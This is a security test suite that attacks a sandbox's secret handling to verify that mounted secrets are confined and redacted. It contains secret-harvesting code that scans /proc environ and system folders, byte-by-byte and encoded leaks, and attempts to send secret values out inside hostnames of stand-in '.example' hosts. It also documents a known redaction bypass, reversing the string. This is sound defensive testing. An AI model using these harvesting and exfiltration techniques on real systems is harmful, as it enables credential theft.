"""Attacks on secrets: what the controller holds, and what a session has and must not show."""

from __future__ import annotations

import json
import logging
from collections.abc import AsyncIterator
from pathlib import Path

import anyio
import docker
import pytest

from sandbox.cli.wiring import controller
from sandbox.config import Settings
from sandbox.errors import ConfigError, FileError
from sandbox.sessions.manager import SessionManager
from sandbox.sessions.models import Caller

from .conftest import RUNTIME, Attacked
from .inside import connect, status, through

pytestmark = pytest.mark.anyio

GIVEN = 'file-Zq7/9"pA+x<wK'
HELD = "gateway-8fJ2kLm0Qr"
OWNER = Caller("owner")
KEYED = """\
version: 1
description: One secret of each kind.
secrets:
  - {name: given, as: file}
  - {name: held, as: gateway}
network:
  allow:
    - {domain: api.vendor.example.com, secret: held}
"""


@pytest.fixture(scope="module")
async def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A state directory, a folder of policies and one of secrets."""
    place = tmp_path_factory.mktemp("place")
    for name in ("state", "policies", "secrets"):
        (place / name).mkdir(mode=0o700)
    (place / "policies/keyed.yaml").write_text(KEYED)
    (place / "secrets/given").write_text(GIVEN + "\n")
    (place / "secrets/held").write_text(HELD + "\n")
    return place


@pytest.fixture(scope="module")
async def keeper(place: Path) -> AsyncIterator[SessionManager]:
    settings = Settings(
        state_dir=place / "state",
        policies=place / "policies",
        secrets_dir=place / "secrets",
        runtime=RUNTIME,  # pyright: ignore[reportArgumentType]  # checked by the model
    )
    async with controller(settings, "run") as manager:
        yield manager


@pytest.fixture
async def keyed(keeper: SessionManager) -> AsyncIterator[Attacked]:
    """A session with one secret of each kind."""
    session = await keeper.open(OWNER, policy="keyed", reuse=False)
    yield Attacked(session, keeper, OWNER)
    with anyio.CancelScope(shield=True), anyio.move_on_after(30):
        await keeper.close(OWNER, session.session_id)


def in_hex() -> object:
    """What is in the secrets folder, in a form that no redaction knows."""
    import os

    folder = "/run/secrets"
    return {
        name: [b ^ 1 for b in open(f"{folder}/{name}", "rb").read()] for name in os.listdir(folder)
    }


def everywhere(halves: list[str]) -> object:
    """Where inside a text of two halves stands, apart from the file that is to hold it."""
    import os

    wanted = "".join(halves).encode()
    found = []
    for folder, _, names in os.walk("/proc"):
        if folder.count("/") > 2:
            continue
        for name in ("environ", "cmdline", "comm", "mountinfo"):
            if name in names:
                try:
                    data = open(f"{folder}/{name}", "rb").read()  # noqa: SIM115
                except OSError:
                    continue
                found += [f"{folder}/{name}"] * (wanted in data)
    for top in ("/tmp", "/workspace", "/dev/shm", "/run", "/etc", "/var", "/home", "/opt"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = f"{folder}/{name}"
                try:
                    if os.path.isfile(path) and wanted in open(path, "rb").read(1 << 20):  # noqa: SIM115
                        found.append(path)
                except OSError:
                    continue
    return found


async def test_a_secret_is_inside_only_where_its_policy_says(keyed: Attacked) -> None:
    """Policy rule secrets: the given one is one file of the session's own, the held one nowhere."""
    inside = await keyed.attack(in_hex)
    assert {name: bytes(b ^ 1 for b in data).decode() for name, data in inside.items()} == {
        "given": GIVEN
    }
    assert await keyed.attack(everywhere, [GIVEN[:5], GIVEN[5:]]) == ["/run/secrets/given"]
    assert await keyed.attack(everywhere, [HELD[:5], HELD[5:]]) == []
    # Not stat(1), to which the gVisor of Debian 12 answers "Invalid argument".
    look = "import os\nfor path in ('/run/secrets', '/run/secrets/given'):\n"
    look += "    found = os.stat(path)\n    print(f'{found.st_mode & 0o7777:o}', found.st_uid)\n"
    look += "print(os.getuid())"
    listed = await keyed.shell("python3 -", stdin=look)
    folder, file, uid = listed.stdout.split("\n")[:3]
    assert (folder, file) == (f"700 {uid}", f"400 {uid}")
    assert "noexec" in (await keyed.shell("grep /run/secrets /proc/mounts")).stdout


async def test_the_engine_never_hears_a_secret(
    keyed: Attacked, engine: docker.DockerClient
) -> None:
    """Policy rule secrets: inspection, labels, logs, processes and exec arguments have no value."""
    container = engine.containers.get(keyed.session.container_id or "")
    told = [json.dumps(container.attrs), json.dumps(container.top())]
    told += [json.dumps(engine.api.exec_inspect(each)) for each in container.attrs["ExecIDs"]]
    assert "secrets" in told[0]  # the mount is told
    for value in (GIVEN, HELD, json.dumps(GIVEN)[1:-1]):
        assert not [text for text in told if value in text]


async def test_outputs_do_not_show_a_secret_in_its_usual_forms(keyed: Attacked) -> None:
    """Policy rule secrets: printed, shown, raised, encoded, or coloured, it is taken out."""
    code = """
        import base64, binascii, json, urllib.parse, html
        value = open("/run/secrets/given").read()
        print(value, f"\\x1b[31m{value[:4]}\\x1b[0m{value[4:]}")
        print(base64.b64encode(b"user:" + value.encode()), value.encode().hex())
        print(json.dumps(value), urllib.parse.quote(value), html.escape(value), repr(value))
        display({"text/html": value, "text/plain": value}, raw=True)
        raise ValueError(value)
    """
    result = await keyed.cell(code)
    command = await keyed.shell("cat /run/secrets/given; base64 -w0 < /run/secrets/given >&2")
    shown = json.loads(json.dumps([result.model_dump(), command.model_dump()]))
    text = str(shown)
    assert result.status == "error"
    assert text.count("[secret given]") >= 14
    for piece in ("Zq7", "pA+x", "WnE3", "5a7137"):
        assert piece not in text


async def test_a_secret_that_comes_byte_by_byte_is_not_shown(keyed: Attacked) -> None:
    """Policy rule secrets: no split between two messages, pieces or reads lets one through."""
    code = """
        import sys, time
        value = open("/run/secrets/given").read()
        for at in range(1, len(value)):
            sys.stdout.write(value[:at]); sys.stdout.flush()
            time.sleep(0.01)
            sys.stdout.write(value[at:] + "\\n"); sys.stdout.flush()
    """
    result = await keyed.cell(code)
    assert result.outputs[0]["text"] == "[secret given]\n" * (len(GIVEN) - 1)
    slowly = (
        "v=$(cat /run/secrets/given); "
        'for i in $(seq 0 17); do printf %s "${v:$i:1}"; sleep .01; done'
    )
    assert (await keyed.shell(slowly)).stdout == "[secret given]"
    async with keyed.session.use():
        terminals = keyed.session.terminals
        terminal = await terminals.open(rows=24, cols=40)
        await terminals.write(terminal.terminal_id, f"{slowly}; echo; echo fin''ished\r")
        shown = ""
        with anyio.fail_after(30):
            while "finished" not in shown:
                view = await terminals.read(terminal.terminal_id, wait_s=0.02)
                shown += view.new_text + "\n".join(view.screen)
    assert "[secret" in shown
    assert "Zq7" not in shown.replace("\n", "")


async def test_what_comes_back_of_a_held_secret_is_not_shown(keyed: Attacked) -> None:
    """Policy rule secrets: a server that echoes the header tells code its value, and no caller."""
    echoed = f"print({HELD[:6]!r} + {HELD[6:]!r}); raise ValueError({HELD[:6]!r} + {HELD[6:]!r})"
    result = await keyed.cell(echoed)
    assert result.outputs[0]["text"] == "[secret held]\n"
    assert result.error is not None
    assert result.error.value == "[secret held]"


async def test_the_record_the_journal_and_the_log_have_no_secret(
    keyed: Attacked, place: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Policy rule secrets: what the controller keeps and says of a session holds no value."""
    caplog.set_level(logging.DEBUG)
    await keyed.cell("value = open('/run/secrets/given').read(); print(value); value")
    await keyed.cell("raise ValueError(value)")
    kept = {path: path.read_bytes() for path in (place / "state").rglob("*") if path.is_file()}
    assert any(b"[secret given]" in data for data in kept.values())
    for value in (GIVEN, HELD, json.dumps(GIVEN)[1:-1]):
        assert not [path for path, data in kept.items() if value.encode() in data]
        assert value not in caplog.text


async def test_a_secret_as_a_name_is_told_nowhere(
    keyed: Attacked, place: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Policy rule secrets: as a host, a file's name, a link's target, in an error and in a change
    it is taken out where it leaves the session, for every front and record."""
    caplog.set_level(logging.DEBUG)
    half, rest = HELD[:8], HELD[8:]  # the value stands in no code that a caller sends

    def name(half: str, rest: str) -> object:
        import os

        value = half + rest
        os.symlink(f"/nowhere/{value}", "link")
        open(f"a-{value}.txt", "w").close()
        asked = (
            connect(f"{value}.example:443"),
            connect(f"{value}.vendor.example.com:443"),
            f"GET http://{value}.example/ HTTP/1.1\r\nHost: {value}.example\r\n\r\n".encode(),
            f"GET http://{value}_%/ HTTP/1.1\r\n\r\n".encode(),
        )
        return [status(through(request)) for request in asked]

    assert await keyed.attack(name, half, rest) == [403, 403, 403, 400]
    cell = await keyed.cell(
        f"import urllib.request as u; u.urlopen('https://' + {half!r} + {rest!r} + '.example')"
    )
    told: list[object] = [cell.model_dump(), keyed.session.info().model_dump()]
    async with keyed.session.use():
        files = keyed.session.files
        told += [await files.list(), await files.stat("link")]
        await files.write("text", b"one")
        told.append(await files.edit("text", "one", HELD))
    with pytest.raises(FileError) as caught:
        async with keyed.session.use():
            await keyed.session.files.stat(f"absent-{HELD}")
    told += [str(caught.value), caught.value.message]
    completed = await keyed.session.kernels.complete(f"'a-' + {half!r}")
    told.append(completed.model_dump())
    kept = [path.read_bytes() for path in (place / "state").rglob("*") if path.is_file()]
    assert str(told).count("[secret held]") >= 8
    assert HELD.lower() not in str(told).lower()
    assert not [data for data in kept if HELD.lower().encode() in data.lower()]
    assert any(b"[secret held].vendor.example.com" in data for data in kept)
    assert HELD.lower() not in caplog.text.lower()


async def test_a_neighbour_has_neither_the_file_nor_the_value(keeper: SessionManager) -> None:
    """Policy rule secrets: a session of another policy has no such mount."""
    session = await keeper.open(Caller("neighbour"), policy="offline")
    attacked = Attacked(session, keeper, Caller("neighbour"))
    assert await attacked.attack(everywhere, [GIVEN[:5], GIVEN[5:]]) == []
    listing = await attacked.shell("ls /run/secrets")
    assert (listing.exit_code, listing.stdout) == (2, "")
    await keeper.close(Caller("neighbour"), session.session_id)


async def test_a_link_in_the_operators_folder_gives_nothing_else_away(
    keeper: SessionManager, place: Path
) -> None:
    """Policy rule secrets: a link out of the folder is refused, and no session opens."""
    held = place / "secrets/held"
    held.unlink()
    held.symlink_to("/etc/hostname")
    try:
        with pytest.raises(ConfigError, match=r"'keyed'.*'held'.*leads out"):
            await keeper.open(Caller("late"), policy="keyed")
    finally:
        held.unlink()
        held.write_text(HELD)


async def test_gap_code_can_write_a_secret_in_another_form(keyed: Attacked) -> None:
    """Policy rule secrets: redaction is no barrier for code that has the value: this is the gap."""
    result = await keyed.cell("print(open('/run/secrets/given').read()[::-1])")
    assert result.outputs[0]["text"].strip() == GIVEN[::-1]
